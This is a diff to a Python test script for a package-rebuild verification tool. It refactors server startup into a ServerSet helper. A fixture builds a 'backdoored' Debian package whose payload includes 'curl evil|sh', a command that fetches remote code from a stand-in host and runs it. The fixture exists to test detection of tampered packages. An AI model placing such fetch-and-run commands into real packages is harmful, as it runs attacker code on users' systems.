@@ -24,7 +24,7 @@ sys.path.insert(0, str(ROOT))
 from tests.support.packages import build_deb, build_rpm  # noqa: E402
 from tests.support.policy import write_policy  # noqa: E402
 from tests.support.rebuilders import make_rebuilders  # noqa: E402
-from tests.support.server import RebuilderServer  # noqa: E402
+from tests.support.server import ServerSet  # noqa: E402
 
 BOLD, RESET = ("\033[1m", "\033[0m") if sys.stdout.isatty() else ("", "")
 
@@ -48,14 +48,9 @@ def core_part(work: Path) -> None:
     honest = build_deb(work / "honest", "hello", "1.0-1", payload=b"#!/bin/sh\necho hello\n")
     backdoored = build_deb(work / "backdoored", "hello", "1.0-1", payload=b"#!/bin/sh\necho hello; curl evil|sh\n")
     rpm = build_rpm(work / "rpm", "hello-rpm", "1.0", "1", payload=b"hello from rpm\n")
-    servers: list[RebuilderServer] = []
-
-    def serve(root: Path) -> RebuilderServer:
-        servers.append(RebuilderServer(root).start())
-        return servers[-1]
-
+    servers = ServerSet()
     try:
-        rb1, rb2, rb3 = make_rebuilders(work, 3, serve)
+        rb1, rb2, rb3 = make_rebuilders(work, 3, servers)
         for rb in (rb1, rb2):
             rb.publish("hello", "1.0-1", {honest.name: honest.read_bytes()})
             rb.publish("hello-rpm", "1.0-1", {rpm.name: rpm.read_bytes()})
@@ -86,8 +81,7 @@ def core_part(work: Path) -> None:
         broken.write_text(policy.read_text().replace("threshold = 2", "threshold = 5"))
         show(rebuildgate + ["check-config", "--policy", str(broken)])
     finally:
-        for s in servers:
-            s.stop()
+        servers.stop()
 
 
 def main() -> int:
